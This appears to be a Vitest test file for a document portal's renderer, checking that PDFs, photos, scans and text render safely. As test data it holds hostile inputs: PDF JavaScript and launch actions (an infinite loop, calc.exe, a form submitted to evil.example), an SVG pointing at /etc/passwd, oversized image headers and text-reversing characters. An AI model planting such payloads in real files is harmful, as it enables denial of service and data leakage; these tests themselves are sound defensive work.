import { readFileSync } from "node:fs";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import type { Page, PageAsked, ShownType } from "@/lib/documents/render/page";
import { renderPage } from "@/lib/documents/render/render-page";
import { pdfOf, pdfWith, wideTiff } from "@/tests/factories/document-files";

// What is drawn is looked at; the portal itself opens no such files.
sharp.unblock({ operation: ["VipsForeignLoadWebp"] });

const first: PageAsked = { page: 1, size: "fit", turns: 0 };

async function shown(bytes: Uint8Array, type: ShownType, asked: Partial<PageAsked> = {}) {
  const rendered = await renderPage(bytes, type, { ...first, ...asked });
  if (!rendered.ok) throw new Error(rendered.error);
  return rendered.value;
}

async function pixel({ picture }: Page, x: number, y: number): Promise<number[]> {
  if (!picture) throw new Error("There is no picture.");
  const at = {
    left: Math.round(x * (picture.width - 1)),
    top: Math.round(y * (picture.height - 1)),
  };
  const raw = sharp(picture.webp)
    .extract({ ...at, width: 1, height: 1 })
    .removeAlpha()
    .raw();
  return [...(await raw.toBuffer())];
}

const halves = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: "#f00" } }).composite([
    {
      input: { create: { width: width / 2, height, channels: 3, background: "#00f" } },
      gravity: "east",
    },
  ]);
const isRed = ([r = 0, , b = 0]: number[]) => r > 200 && b < 60;
const isBlue = ([r = 0, , b = 0]: number[]) => b > 200 && r < 60;

describe("a PDF", () => {
  it("shows the page that is asked for, as large as asked, with its text", async () => {
    const bytes = pdfOf(["Invoice 4,989.75 ct", "Seal NT-0048815"]);
    const page = await shown(bytes, "application/pdf");
    expect(page).toMatchObject({ pages: 2, text: "Invoice 4,989.75 ct" });
    expect(page.picture).toMatchObject({ width: 1400, height: 1812 });
    const second = await shown(bytes, "application/pdf", { page: 2, size: "large", turns: 1 });
    expect(second.text).toBe("Seal NT-0048815");
    expect(second.picture?.width).toBeGreaterThan(3000);
    expect(second.picture?.height).toBeGreaterThan(2500);
    expect((await sharp(second.picture?.webp).metadata()).format).toBe("webp");
  });

  it("of an office program is shown with its letters", async () => {
    const page = await shown(readFileSync("tests/files/pages/invoice.pdf"), "application/pdf");
    expect(page.text).toContain("Aurora Ridge Diamonds Ltd.\nCommercial invoice");
    expect(page.text).toContain("Extrait à Gahcho Kué");
  });

  it("has no page after its last", async () => {
    const asked = { ...first, page: 3 };
    expect(await renderPage(pdfOf(["a", "b"]), "application/pdf", asked)).toEqual({
      ok: false,
      error: "noSuchPage",
    });
  });

  it("is shown without doing what it says to do", async () => {
    const bytes = pdfWith(
      "/OpenAction << /S /JavaScript /JS (app.alert\\('hello'\\); while\\(true\\);) >> /AA << /WC << /S /Launch /F (calc.exe) >> >>",
      "/AA << /O << /S /JavaScript /JS (this.submitForm\\('https://evil.example'\\);) >> >>",
    );
    const page = await shown(bytes, "application/pdf");
    expect(page).toMatchObject({ pages: 1, text: "Hello" });
  });

  it("of five thousand pages is counted without drawing them", async () => {
    const bytes = pdfOf(Array.from({ length: 5000 }, (_, at) => `Page ${at + 1}`));
    const page = await shown(bytes, "application/pdf", { page: 5000 });
    expect(page).toMatchObject({ pages: 5000, text: "Page 5000" });
  });

  it.each([
    ["as wide as a field", "0 0 20000000 100"],
    ["as high as a house", "0 0 1 900000"],
    ["as large as a field", "0 0 9000000 9000000"],
  ])("%s stays within the pixels that are allowed", async (_, box) => {
    const { picture } = await shown(pdfWith("", "", box), "application/pdf");
    expect((picture?.width ?? 0) * (picture?.height ?? 0)).toBeLessThanOrEqual(12_100_000);
    expect(Math.max(picture?.width ?? 0, picture?.height ?? 0)).toBeLessThanOrEqual(12_000);
  });

  it.each([
    ["without pages", pdfOf([])],
    ["that breaks off", pdfOf(["Hello"]).subarray(0, 60)],
    ["that is none", Buffer.from("%PDF-1.7\nnothing")],
    ["that is empty", Buffer.alloc(0)],
  ])("%s is damaged", async (_, bytes) => {
    expect(await renderPage(bytes, "application/pdf", first)).toEqual({
      ok: false,
      error: "damaged",
    });
  });

  it("with a font that is broken shows the rest", async () => {
    const font =
      "/Type /Font /Subtype /TrueType /BaseFont /Broken /FontDescriptor << /Type /FontDescriptor /FontName /Broken /Flags 4 /FontFile2 5 0 R >>";
    expect(await shown(pdfWith("", "", "0 0 612 792", font), "application/pdf")).toMatchObject({
      pages: 1,
      picture: { width: 1400 },
    });
  });
});

describe("a photograph", () => {
  it("stands as its camera held it, and loses where it was taken", async () => {
    const bytes = await halves(400, 200)
      .jpeg()
      .withExif({ IFD0: { Copyright: "Somebody" }, IFD3: { GPSLatitude: "62/1 27/1 0/1" } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const page = await shown(bytes, "image/jpeg");
    expect(page).toMatchObject({ pages: 1, text: null, picture: { width: 200, height: 400 } });
    expect(isRed(await pixel(page, 0.5, 0.1))).toBe(true);
    expect(isBlue(await pixel(page, 0.5, 0.9))).toBe(true);
    const kept = await sharp(page.picture?.webp).metadata();
    expect([kept.exif, kept.xmp, kept.icc, kept.iptc]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });

  it("turns by quarters", async () => {
    const bytes = await halves(400, 200).jpeg().toBuffer();
    const page = await shown(bytes, "image/jpeg", { turns: 3 });
    expect(page.picture).toMatchObject({ width: 200, height: 400 });
    expect(isBlue(await pixel(page, 0.5, 0.1))).toBe(true);
  });

  it("for print is shown in the colours of a screen", async () => {
    const bytes = await halves(400, 200).toColourspace("cmyk").jpeg().toBuffer();
    const page = await shown(bytes, "image/jpeg");
    expect(isRed(await pixel(page, 0.1, 0.5))).toBe(true);
  });

  it("of more pixels than are decoded is refused before it is", async () => {
    const bytes = await halves(400, 200).jpeg().toBuffer();
    const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]));
    bytes.writeUInt16BE(20_000, frame + 5);
    bytes.writeUInt16BE(20_000, frame + 7);
    expect(await sharp(bytes, { limitInputPixels: false }).metadata()).toMatchObject({
      width: 20_000,
      height: 20_000,
    });
    const started = performance.now();
    const rendered = await renderPage(bytes, "image/jpeg", first);
    expect(rendered).toEqual({ ok: false, error: "tooLarge" });
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it("that is a drawing with an address in it is not opened at all", async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="file:///etc/passwd"/></svg>`;
    expect(await renderPage(Buffer.from(svg), "image/jpeg", first)).toMatchObject({ ok: false });
  });

  it("that breaks off is damaged", async () => {
    const bytes = await halves(400, 200).jpeg().toBuffer();
    expect(await renderPage(bytes.subarray(0, 500), "image/jpeg", first)).toEqual({
      ok: false,
      error: "damaged",
    });
  });
});

describe("a scan", () => {
  it("shows each of its pages", async () => {
    const bytes = readFileSync("tests/files/pages/scan.tif");
    const page = await shown(bytes, "image/tiff", { page: 2 });
    expect(page).toMatchObject({ text: null });
    expect(page.pages).toBeGreaterThan(1);
    expect(page.picture?.width).toBeGreaterThan(100);
  });

  it("whose head promises more pixels than are decoded is refused", async () => {
    expect(await renderPage(wideTiff(50_000, 50_000), "image/tiff", first)).toEqual({
      ok: false,
      error: "tooLarge",
    });
  });
});

describe("a text", () => {
  const word = "Reçu à Yellowknife, 12 € – œuvre";
  it.each([
    ["UTF-8", Buffer.from(word)],
    ["UTF-8 with a mark", Buffer.from(`\uFEFF${word}`)],
    ["UTF-16, little end first", Buffer.from(`\uFEFF${word}`, "utf16le")],
    ["UTF-16, big end first", Buffer.from(`\uFEFF${word}`, "utf16le").swap16()],
  ])("in %s is read", async (_, bytes) => {
    expect(await shown(bytes, "text/plain")).toEqual({ pages: 1, picture: null, text: word });
  });

  it("of an older Windows or in ISO 8859-1 is read", async () => {
    const bytes = Buffer.from("Re\xE7u \xE0 Yellowknife \x96 12 \x80", "latin1");
    expect(await shown(bytes, "text/plain")).toMatchObject({ text: "Reçu à Yellowknife – 12 €" });
  });

  it("has pages of its own", async () => {
    const lines = Array.from({ length: 1000 }, (_, at) => `Line ${at + 1}`).join("\r\n");
    const page = await shown(Buffer.from(lines), "text/plain", { page: 4 });
    expect(page.pages).toBe(4);
    expect(page.text?.split("\n")[0]).toBe("Line 901");
    const long = await shown(Buffer.from("x".repeat(100_000)), "text/plain", { page: 4 });
    expect(long).toMatchObject({ pages: 4, text: "x".repeat(10_000) });
  });

  it("cannot turn the direction in which it is read", async () => {
    const page = await shown(Buffer.from("total \u202E57.9,4\u202C \u0007ct"), "text/plain");
    expect(page.text).toBe("total \uFFFD57.9,4\uFFFD \uFFFDct");
  });
});
